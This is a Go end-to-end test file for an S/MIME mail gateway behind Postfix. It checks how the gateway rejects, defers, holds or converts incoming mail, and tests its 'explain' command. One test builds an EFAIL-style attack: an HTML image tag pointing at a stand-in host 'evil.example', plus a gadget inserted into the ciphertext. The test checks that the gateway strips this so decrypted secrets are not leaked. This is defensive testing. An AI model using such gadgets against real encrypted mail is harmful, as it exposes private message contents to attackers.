package e2e

// This file takes the actions of [on] through Postfix, and asks why.

import (
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"sealgate/internal/efail"
	"sealgate/internal/testpki"
)

const htmlEntity = "Content-Type: text/html\n\n<p>the very secret text of this mail</p><img src=\"http://evil.example/?\">\n"

// TestActions: hold, refuse, try again, and text, by milter and before the queue.
func TestActions(t *testing.T) {
	for _, transport := range []string{viaMilter, viaProxy} {
		t.Run(transport, func(t *testing.T) {
			t.Parallel()
			s := newSite(t, transport, siteOptions{config: "[on]\nbad_signature = \"reject\"\nuntrusted = \"tempfail\"\nmismatch = \"quarantine\"\nunauthenticated = \"text\"\n"})
			s.person("bob", "bob@kunde.example", "rsa-2048")
			s.keys["stranger"], s.certs["stranger"] = s.files(testpki.New(t).Issue(testpki.Options{Addresses: []string{"anna@kunde.example"}, Key: "rsa-2048"}), "stranger")
			send := func(mark, entity string) reply {
				return s.send(s.inbound, "anna@kunde.example", []string{"support@firma.example"}, withHeader(headerOf(mark), entity))
			}
			if got := send("broken", strings.Replace(s.signed("anna", textEntity), "very secret", "very forged", 1)); got.code != 550 || !strings.Contains(got.text, "bad signature") {
				t.Errorf("reject: %+v", got)
			}
			if got := send("strange", s.signed("stranger", textEntity)); got.code != 451 {
				t.Errorf("tempfail: %+v", got)
			}
			held := send("held", s.signed("bob", textEntity))
			if transport == viaMilter {
				s.accepted(held)
				if q := s.postfix.Queue(); !strings.Contains(q, "!") { // mailq marks what is on hold
					t.Errorf("not on hold:\n%s", q)
				}
			} else if held.code != 451 {
				t.Errorf("quarantine where nothing can be held: %+v", held)
			}
			seen, err := efail.Parse([]byte(s.sealed(htmlEntity, []string{"support"}, "-aes-256-cbc", "-outform", "DER")), crlf(htmlEntity))
			if err != nil {
				t.Fatal(err)
			}
			gadget, err := seen.Insert(4, "<img src=\"//e.e/", "?x=")
			if err != nil {
				t.Fatal(err)
			}
			s.accepted(send("gadget", efail.Entity(gadget)))
			text := s.arrival("Subject: gadget").Text
			_, body, _ := strings.Cut(text, "\r\n\r\n")
			if plain := s.openssl(body, "base64", "-d"); strings.Contains(text, "text/html") || strings.Contains(plain, "<img") || !strings.Contains(plain, "the very secret") || field(t, text, "X-SMIME-Encryption") != "decrypted" {
				t.Errorf("text: %q\n%s", plain, text)
			}
			time.Sleep(300 * time.Millisecond)
			for _, mark := range []string{"broken", "strange", "held"} {
				if n := len(s.sink.WaitFor("Subject: "+mark, 1, 0)); n != 0 {
					t.Errorf("%s was delivered", mark)
				}
			}
		})
	}
}

// TestExplainRecipients asks the running gateway, and then the store at rest.
func TestExplainRecipients(t *testing.T) {
	t.Parallel()
	s := newSite(t, viaMilter)
	s.learn("anna", "anna@kunde.example")
	path, err := binary()
	if err != nil {
		t.Fatal(err)
	}
	explain := func(to string) (string, error) {
		out, err := exec.Command(path, "explain", "--config", filepath.Join(s.dir, "config.toml"), "--to", to).CombinedOutput()
		return string(out), err
	}
	for _, running := range []bool{true, false} {
		if out, err := explain("anna@kunde.example"); err != nil || !strings.Contains(out, "CHOSEN: active, harvested") {
			t.Errorf("running %v: %v\n%s", running, err, out)
		}
		if out, err := explain("bob@kunde.example"); err == nil || !strings.Contains(out, "no certificate is known") {
			t.Errorf("running %v: %v\n%s", running, err, out)
		}
		if running {
			s.gateway.Process.Kill()
			s.gateway.Wait()
		}
	}
}
